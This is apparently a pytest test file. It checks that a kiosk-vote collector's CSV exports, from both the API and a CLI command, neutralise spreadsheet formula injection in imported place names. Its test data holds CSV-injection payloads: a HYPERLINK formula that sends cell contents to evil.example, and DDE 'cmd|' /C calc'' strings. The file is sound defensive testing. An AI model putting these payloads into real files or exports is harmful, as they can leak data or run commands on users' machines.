"""Exports carry no formulas: names from the ANCT list that a spreadsheet would run reach CSV exports as text.

The list is imported as its reporter would get it (the ANCT format), votes go through the real store, and the
exports are read through the real API and the ``borne collector kpi export`` command, then parsed as CSV.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from collector.api.app import create_app
from collector.db.engine import session_factory
from collector.ingest.store import Incoming, Store
from collector.registry.espaces import add_kiosk
from collector.registry.espaces_import import import_espaces
from devtools.builders import admin_token, bearer, migrated_engine, wire_batch
from protocol.codec import encode
from protocol.topics import TopicKind, kiosk_topic
from tests.provisioning.conftest import invoke
from tests.registry.test_espaces_import import anct_csv, row

HOSTILE_NAMES = {
    "fs-eq": '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "fs-plus": "+33 1 23 45 67 89",
    "fs-minus": "-2+3+cmd|' /C calc'!A0",
    "fs-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fs-tab": "\t=1+1 France services",
    "fs-cr": "\r=1+1 France services",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
DAY = datetime(2024, 3, 5, 10, 30, tzinfo=UTC)


def _fleet(url: str) -> Engine:
    engine = migrated_engine(url)
    data = anct_csv([row(espace_id, "22", name) for espace_id, name in HOSTILE_NAMES.items()])
    store = Store(engine)
    with session_factory(engine)() as session, session.begin():
        report = import_espaces(session, data, close_missing=False)
        assert report.imported == len(HOSTILE_NAMES), report.bad
        for espace_id in HOSTILE_NAMES:
            add_kiosk(session, f"k-{espace_id}", espace_id, now=DAY - timedelta(days=30))  # before its votes
    messages = [Incoming(kiosk_topic(f"k-{e}", TopicKind.VOTES), encode(wire_batch(f"k-{e}", [4, 1, 4], ts=DAY)),
                         DAY) for e in HOSTILE_NAMES]
    assert store.ingest(messages).stored == 3 * len(HOSTILE_NAMES)
    return engine


def _formula_cells(text: str) -> list[str]:
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert cells, "the export is empty"
    return [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def test_api_csv_exports_carry_no_formula(sqlite_url: str) -> None:
    engine = _fleet(sqlite_url)
    params = {"from": "2024-01-01", "to": "2025-01-01", "format": "csv"}
    with TestClient(create_app(engine)) as client:
        headers = bearer(admin_token(engine))
        ranking = client.get("/api/v1/kpi/ranking", params=params, headers=headers)
        assert ranking.status_code == 200, ranking.text
        assert ranking.headers["content-type"].startswith("text/csv")
        assert _formula_cells(ranking.text) == []
        names = {r["espace_id"]: r["name"] for r in csv.DictReader(io.StringIO(ranking.text, newline=""))}
        assert set(names) == set(HOSTILE_NAMES)
        # What the name said is all there, only marked as text for a spreadsheet.
        assert names["fs-eq"] == "'" + HOSTILE_NAMES["fs-eq"]
        assert names["fs-plus"] == "'+33 1 23 45 67 89"
        for path in ("satisfaction", "heatmap", "ind-246"):
            response = client.get(f"/api/v1/kpi/{path}", params=params, headers=headers)
            assert response.status_code == 200, response.text
            assert _formula_cells(response.text) == [], path
    engine.dispose()


def test_cli_csv_export_carries_no_formula(sqlite_url: str, tmp_path: Path) -> None:
    engine = _fleet(sqlite_url)
    out = tmp_path / "ranking.csv"
    result = invoke(["collector", "kpi", "export", "ranking", "--out", str(out), "--from", "2024-01-01",
                     "--database-url", sqlite_url])
    assert result.exit_code == 0, result.output
    assert _formula_cells(out.read_text(encoding="utf-8")) == []
    engine.dispose()


def test_numbers_stay_numbers() -> None:
    from collector.kpi.export import ExportFormat, neutralise, to_bytes

    frame = pd.DataFrame({"name": ["-3.5", "-1+2", "=1", "ok", None], "trend": [-3.5, -0.25, 1.0, 2.0, None],
                          "mixed": [-2, "-2", "+cmd", 3.5, "@x"]})
    out = neutralise(frame)
    assert list(out["name"][:4]) == ["-3.5", "'-1+2", "'=1", "ok"] and pd.isna(out["name"][4])
    assert out["trend"].dtype == frame["trend"].dtype and out["trend"].iloc[0] == -3.5
    assert list(out["mixed"]) == [-2, "-2", "'+cmd", 3.5, "'@x"]
    text = to_bytes(frame, ExportFormat.CSV).decode()
    back = pd.read_csv(io.StringIO(text))
    assert back["trend"].iloc[0] == -3.5, "a negative number stays a number"
